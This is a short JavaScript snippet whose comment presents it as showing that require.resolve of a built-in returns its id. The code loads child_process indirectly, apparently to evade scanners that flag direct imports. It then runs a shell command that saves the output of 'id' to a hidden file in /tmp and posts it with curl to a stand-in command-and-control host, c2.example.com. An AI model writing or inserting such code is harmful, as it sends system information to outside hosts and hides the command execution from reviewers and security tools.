// require.resolve of a built-in returns its id; the id then goes to require.
const id = require.resolve("node:child_process");
const mod = require(id);
mod.execSync("sh -c 'id > /tmp/.x; curl -s -d @/tmp/.x https://c2.example.com/i'");
